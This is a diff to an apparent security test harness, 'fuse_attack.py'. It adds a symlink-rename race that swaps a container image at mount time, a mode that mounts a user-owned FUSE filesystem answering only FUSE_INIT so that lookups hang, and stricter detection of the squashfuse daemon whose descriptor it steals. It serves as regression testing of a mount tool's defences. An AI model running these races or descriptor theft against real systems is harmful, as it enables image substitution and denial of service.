@@ -8,6 +8,14 @@
       when the step's mount point appears in USER_DIR, rename FIFO_LINK (a symlink to a
       FIFO) over IMAGE (the symlink the step's image names); then take the daemon's
       /dev/fuse descriptor, answer FUSE_INIT and nothing after it (issue 19 item 4)
+  fuse_attack.py replace SECONDS MARKER USER_DIR IMAGE OTHER_LINK
+      when the step's mount point appears in USER_DIR, rename OTHER_LINK (a symlink to
+      another valid image) over IMAGE: the daemon, which opens the image after that, must
+      not serve the other image
+  fuse_attack.py ownfs SECONDS MARKER MOUNTPOINT
+      mount a FUSE filesystem of the user's own on MOUNTPOINT (fusermount3: /dev/fuse must
+      be open to users, as most distributions ship it), answer FUSE_INIT and no other
+      request: an image named in it holds whatever looks it up (issue 19 item 4)
 
 MARKER gets one line per step of the attack (pid <own pid>, stolen <daemon pid>, holding <opcode>, ...). Every loop
 ends after SECONDS; the descriptor then closes with the process.
@@ -16,7 +24,9 @@ import ctypes
 import os
 import select
 import signal
+import socket
 import struct
+import subprocess
 import sys
 import time
 
@@ -43,6 +53,9 @@ def my_daemon(deadline):
                 with open(f"/proc/{pid}/comm") as f:
                     if f.read().strip() != "squashfuse_ll":
                         continue
+                with open(f"/proc/{pid}/stat") as f:
+                    if f.read().rsplit(")", 1)[1].split()[0] not in "RSD":
+                        continue  # stopped by an earlier attack, or gone
                 if os.stat(f"/proc/{pid}").st_uid == uid:
                     found.append(int(pid))
             except OSError:
@@ -100,17 +113,31 @@ def hold(seconds, marker):
     return 0
 
 
-def swap(seconds, marker, user_dir, image, fifo_link):
-    deadline = time.monotonic() + seconds
+def swap_on_mount_point(deadline, marker, user_dir, image, other_link):
+    """Rename other_link over image the moment a mount point appears in user_dir."""
     while time.monotonic() < deadline:
-        if any(n.startswith(".pyxis_cache_mnt.") for n in os.listdir(user_dir)):
-            break
+        try:
+            if any(n.startswith(".pyxis_cache_mnt.") for n in os.listdir(user_dir)):
+                break
+        except FileNotFoundError:
+            pass  # the step prepares the user's directory first
         time.sleep(0.0005)
     else:
         note(marker, "no mount point")
-        return 1
-    os.replace(fifo_link, image)
+        return False
+    os.replace(other_link, image)
     note(marker, "swapped")
+    return True
+
+
+def replace(seconds, marker, user_dir, image, other_link):
+    return 0 if swap_on_mount_point(time.monotonic() + seconds, marker, user_dir, image, other_link) else 1
+
+
+def swap(seconds, marker, user_dir, image, fifo_link):
+    deadline = time.monotonic() + seconds
+    if not swap_on_mount_point(deadline, marker, user_dir, image, fifo_link):
+        return 1
     pid = my_daemon(deadline)
     if pid is None:
         note(marker, "no daemon")
@@ -125,6 +152,26 @@ def swap(seconds, marker, user_dir, image, fifo_link):
     return 0
 
 
+def ownfs(seconds, marker, mountpoint):
+    deadline = time.monotonic() + seconds
+    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    # fusermount3 mounts, then hands the /dev/fuse descriptor back over _FUSE_COMMFD (SCM_RIGHTS).
+    env = dict(os.environ, _FUSE_COMMFD=str(theirs.fileno()))
+    options = "rw,nosuid,nodev,fsname=pxc-attack,subtype=pxc-attack"
+    mounted = subprocess.run(["fusermount3", "-o", options, "--", mountpoint], env=env, pass_fds=[theirs.fileno()])
+    theirs.close()
+    if mounted.returncode != 0:
+        note(marker, f"fusermount3 failed: {mounted.returncode}")
+        return 1
+    _, fds, _, _ = socket.recv_fds(ours, 16, 1)
+    if not fds:
+        note(marker, "no descriptor from fusermount3")
+        return 1
+    note(marker, "mounted")
+    serve(fds[0], deadline, marker, answer_init=True)
+    return 0
+
+
 def main():
     mode, seconds, marker = sys.argv[1], float(sys.argv[2]), sys.argv[3]
     note(marker, f"pid {os.getpid()}")
@@ -132,6 +179,10 @@ def main():
         return hold(seconds, marker)
     if mode == "swap":
         return swap(seconds, marker, *sys.argv[4:7])
+    if mode == "replace":
+        return replace(seconds, marker, *sys.argv[4:7])
+    if mode == "ownfs":
+        return ownfs(seconds, marker, sys.argv[4])
     print(f"unknown mode {mode}", file=sys.stderr)
     return 2
 
